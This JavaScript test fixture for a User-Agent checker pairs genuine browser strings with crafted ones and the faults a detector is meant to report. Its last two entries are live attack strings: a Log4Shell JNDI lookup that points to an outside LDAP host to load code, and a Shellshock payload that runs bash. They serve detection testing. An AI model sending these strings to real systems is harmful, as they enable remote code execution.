// User-Agents as browsers send them, and what people make of them.

const WINDOWS = "Windows NT 10.0; Win64; x64";

export const GENUINE = {
  chrome: `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36`,
  chromeOnMac:
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
  chromeOnAndroid:
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36",
  webView:
    "Mozilla/5.0 (Linux; Android 13; Pixel 7 Build/TQ3A.230805.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.43 Mobile Safari/537.36",
  chromeOnIos:
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/120.0.6099.119 Mobile/15E148 Safari/604.1",
  edge: `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.0.0`,
  oldEdge: `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/64.0.3282.140 Safari/537.36 Edge/18.17763`,
  edgeOnIos:
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 EdgiOS/120.0.2210.91 Mobile/15E148 Safari/605.1.15",
  edgeOnIosAsWell:
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) EdgiOS/120.0.2210.116 Version/17.0 Mobile/15E148 Safari/604.1",
  // Two blanks, as it is sent.
  firefoxOnIos:
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/137.0  Mobile/15E148 Safari/605.1.15",
  insideAnApp:
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/501.2.0.65.109;FBSN/iOS;FBOP/80]",
  opera: `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36 OPR/107.0.0.0`,
  samsung:
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36",
  safari:
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15",
  safariOnIos:
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
  firefox: `Mozilla/5.0 (${WINDOWS}; rv:123.0) Gecko/20100101 Firefox/123.0`,
  // From 110 to 119 rv: stood still.
  firefoxOf2023: `Mozilla/5.0 (${WINDOWS}; rv:109.0) Gecko/20100101 Firefox/115.0`,
  firefoxOnMac: "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:123.0) Gecko/20100101 Firefox/123.0",
  firefoxOnAndroid: "Mozilla/5.0 (Android 13; Mobile; rv:123.0) Gecko/123.0 Firefox/123.0",
  explorer11: "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
  explorer9: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
  explorer8: "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)",
  compatibilityView: "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0)",
};

/** What is sent, and what must be said of it. @type {readonly (readonly [agent: string, says: string])[]} */
export const CRAFTED = [
  [
    `Mozilla/5.0 (${WINDOWS}) Chrome/122.0.0.0 Safari/537.36 AppleWebKit/537.36 (KHTML, like Gecko)`,
    "names Safari before AppleWebKit",
  ],
  [`Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0`, "lacks Safari"],
  [`Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 Chrome/122.0.0.0 Safari/537.36`, "lacks (KHTML, like Gecko)"],
  [
    `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/605.1.15`,
    "says Safari/605.1.15 beside Chrome/122",
  ],
  [
    `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122 Safari/537.36`,
    "says Chrome/122, not four numbers",
  ],
  [
    `Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/119.0.0.0`,
    "says Edge 119 beside Chrome 122",
  ],
  [`Mozilla/5.0 (${WINDOWS}) AppleWebKit/537.36 (KHTML, like Gecko) Safari/537.36 Edg/122.0.0.0`, "lacks Chrome"],
  [`Mozilla/5.0 (${WINDOWS}; rv:115.0) Gecko/20100101 Firefox/123.0`, "says rv:115.0 beside Firefox/123.0"],
  [`Mozilla/5.0 (${WINDOWS}; rv:115.0) Gecko/20100101 Firefox/115.0`, "says rv:115.0 beside Firefox/115.0"],
  [`Mozilla/5.0 (${WINDOWS}; rv:123.0) Gecko/20230101 Firefox/123.0`, "says Gecko/20230101"],
  ["Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/6.0)", "says MSIE 9 on Trident/6"],
  ["Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0)", "lacks like Gecko"],
  [
    "Mozilla/5.0 (Windows NT 11.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "says Windows NT 11.0",
  ],
  [
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "says Chrome/122 on Windows NT 6.1",
  ],
  [
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7; rv:123.0) Gecko/20100101 Firefox/123.0",
    "writes macOS as Safari does: 10_15_7",
  ],
  [GENUINE.chrome.replace("Mozilla/5.0", "Mozilla/4.0"), "says Mozilla/4.0"],
  [GENUINE.chrome.replace("Mozilla", "mozilla"), "writes Mozilla as mozilla"],
  [GENUINE.chrome.replace("Mozilla", "Mozila"), "writes Mozilla as Mozila"],
  // The first letter is Cyrillic.
  [GENUINE.chrome.replace("Chrome", "\u0421hrome"), "has a letter that no browser sends: U+0421"],
  [GENUINE.chrome.replace(") Chrome", ")  Chrome"), "has two blanks in a row"],
  [`${GENUINE.chrome} `, "begins or ends with a blank"],
  [GENUINE.chrome.replace("; Win64", ";Win64"), "has blanks in the wrong places of a list"],
  [GENUINE.chrome.replace("5.0 (", "5.0("), "lacks the blank beside a bracket"],
  [GENUINE.chrome.replace("x64)", "x64"), "has a bracket without its other half"],
  [`User-Agent: ${GENUINE.chrome}`, "begins with the header's own name"],
  [`"${GENUINE.chrome}"`, "stands in quotes"],
  [`${GENUINE.chrome} curl/8.5.0`, "names curl within a browser"],
  ["${jndi:ldap://203.0.113.9/a}", "carries code"],
  ["() { :; }; /bin/bash -c id", "carries code"],
];
